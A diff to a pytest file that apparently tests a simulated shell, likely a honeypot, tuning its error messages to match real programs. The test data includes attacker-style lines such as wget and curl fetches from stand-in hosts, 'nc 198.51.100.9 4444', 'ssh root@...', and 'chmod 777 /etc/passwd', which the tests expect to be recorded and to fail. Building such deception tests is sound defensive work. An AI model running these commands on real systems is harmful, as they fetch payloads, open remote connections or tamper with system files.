@@ -51,10 +51,10 @@ def test_a_command_of_root_prints(run: Player, line: str, shown: str | None) -> 
     [
         ("id nosuch", "id: \u2018nosuch\u2019: no such user\n", 1),
         ("passwd nosuch", "passwd: user 'nosuch' does not exist\n", 1),
-        ("useradd", "useradd: Usage: useradd [options] LOGIN\n", 2),
+        ("useradd", "Usage: useradd [options] LOGIN\n       useradd -D\n       useradd -D [options]\n\nOptions:\n", 2),
         ("useradd deploy", "useradd: user 'deploy' already exists\n", 9),
         ("chown nosuch /tmp", "chown: invalid user: \u2018nosuch\u2019\n", 1),
-        ("chmod 644", "chmod: missing operand after \u2018644\u2019\n", 1),
+        ("chmod 644", "chmod: missing operand after \u2018644\u2019\nTry 'chmod --help' for more information.\n", 1),
         ("kill 99999", "-bash: kill: (99999) - No such process\n", 1),
         ("systemctl restart nosuch", "Failed to restart nosuch.service: Unit nosuch.service not found.\n", 5),
         ("systemctl status nosuch", "Unit nosuch.service could not be found.\n", 4),
@@ -72,8 +72,8 @@ def test_a_command_of_root_prints(run: Player, line: str, shown: str | None) -> 
         ("find /nosuch", "find: \u2018/nosuch\u2019: No such file or directory\n", 1),
         ("echo x > /proc/x", "-bash: /proc/x: Permission denied\n", 1),
         ("busybox nosuch", "nosuch: applet not found\n", 127),
-        ("let 1 +", "-bash: let: +: syntax error: operand expected\n", 1),
-        ("[ a -eq 1 ]", "", 1),
+        ("let 1 +", '-bash: let: +: syntax error: operand expected (error token is "+")\n', 1),
+        ("[ a -eq 1 ]", "-bash: [: a: integer expression expected\n", 2),
     ],
 )  # fmt: skip
 def test_a_refusal_is_in_the_programs_words(run: Player, line: str, complaint: str, status: int) -> None:
@@ -88,8 +88,12 @@ def test_a_refusal_is_in_the_programs_words(run: Player, line: str, complaint: s
         ("passwd root", "passwd: You may not view or modify password information for root.\n"),
         ("dmesg", "dmesg: read kernel buffer failed: Operation not permitted\n"),
         ("reboot", "reboot: must be superuser.\n"),
-        ("iptables -L", "iptables: Permission denied (you must be root)\n"),
-        ("systemctl stop nginx", "systemctl: Failed to stop nginx.service: Access denied\n"),
+        (
+            "iptables -L",
+            "iptables v1.8.9 (nf_tables): Could not fetch rule set generation id: "
+            "Permission denied (you must be root)\n",
+        ),
+        ("systemctl stop nginx", "Failed to stop nginx.service: Access denied\n"),
         ("chmod 777 /etc/passwd", "chmod: changing permissions of '/etc/passwd': Operation not permitted\n"),
         ("rm /etc/passwd", "rm: cannot remove '/etc/passwd': Permission denied\n"),
     ],
@@ -119,7 +123,6 @@ def test_sudo_su_stays_root_and_sudo_of_a_command_does_not(player: MakePlayer) -
     [
         ("wget http://198.51.100.9/x", "fetch", {"program": "wget", "url": "http://198.51.100.9/x"}),
         ("curl -s -o x evil.example/x", "fetch", {"program": "curl", "url": "evil.example/x"}),
-        ("tftp -g -r x 198.51.100.9", "fetch", {"program": "tftp", "url": "198.51.100.9"}),
         ("ping -c 1 198.51.100.9", "ping", {"host": "198.51.100.9"}),
         ("nc 198.51.100.9 4444", "connect", {"program": "nc", "target": "198.51.100.9 4444"}),
         ("ssh root@198.51.100.9", "connect", {"program": "ssh", "target": "root@198.51.100.9"}),
@@ -140,12 +143,12 @@ def test_what_is_wanted_of_the_network_is_recorded_and_fails(
     ("line", "shown", "status"),
     [
         ("curl http://evil.example/", "curl: (6) Could not resolve host: evil.example\n", 6),
-        ("curl 198.51.100.9", "curl: (7) Failed to connect to 198.51.100.9 port 80 after 3 ms: Couldn't connect to "
+        ("curl 198.51.100.9", "curl: (7) Failed to connect to 198.51.100.9 port 80 after 0 ms: Couldn't connect to "
          "server\n", 7),
         ("wget -q http://evil.example/", "", 4),
-        ("ssh 198.51.100.9", "ssh: connect to host 198.51.100.9 port 22: Connection timed out\n", 255),
+        ("ssh 198.51.100.9", "ssh: connect to host 198.51.100.9 port 22: Connection timed out\r\n", 255),
         ("ping evil.example", "ping: evil.example: Temporary failure in name resolution\n", 2),
-        ("wget", "wget: missing URL\n", 2),
+        ("wget", "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options.\n", 1),
     ],
 )  # fmt: skip
 def test_a_network_without_a_way_out_fails_as_it_does(run: Player, line: str, shown: str, status: int) -> None:
